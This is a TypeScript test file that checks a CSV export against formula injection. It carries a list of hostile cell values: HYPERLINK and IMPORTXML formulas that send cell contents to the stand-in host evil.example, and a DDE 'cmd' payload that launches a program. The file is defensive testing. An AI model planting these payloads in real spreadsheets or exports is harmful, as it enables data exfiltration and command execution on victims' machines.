import { csvField, csvRow, plainField } from '@gatehouse/contracts/csv'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvRows } from '../src/keys/csv-rows.ts'

/** What people type to make a spreadsheet run something, and what breaks writers of CSV. */
const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  'x","=1+1',
  'x"\r\n=1+1',
  '"',
  '""',
  ',',
  'two\r\nlines',
  '\u202e=1+1',
  'Ω≈ç√∫˜µ≤≥÷',
  '👩‍👩‍👧‍👦',
  '\ufeff',
  '田中さんにあげて下さい',
  '',
]

describe('D10: no field of an export is a formula', () => {
  test.each(hostile)('%j comes back as it was, and begins with none', (text) => {
    const [row] = csvRows(`head,head\r\n${csvRow([text, 'end'])}`).slice(1)
    expect(row?.cells.map(plainField)).toEqual([text, 'end'])
    expect(row?.cells[0]).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
  })

  test('whatever the text: one row, one field, no formula, and the same text again', () => {
    const part = fc.oneof(
      fc.constantFrom(...hostile, '=', '+', '-', '@', "'", '"', ',', ';', '\r', '\n', '\t'),
      fc.string(),
    )
    fc.assert(
      fc.property(
        fc.array(
          fc.array(part, { maxLength: 4 }).map((parts) => parts.join('')),
          { minLength: 2, maxLength: 6 },
        ),
        (fields) => {
          const [, row, ...more] = csvRows(`head,head\r\n${csvRow(fields)}`)
          if (fields.every((field) => field === '')) return
          expect(more).toEqual([])
          expect(row?.cells.map(plainField)).toEqual(fields)
          for (const cell of row?.cells ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
        },
      ),
      { numRuns: 2_000 },
    )
  })

  test('a number stays a number', () => {
    expect([csvField(-3), csvField(0.5), csvField(null)]).toEqual(['-3', '0.5', ''])
  })
})
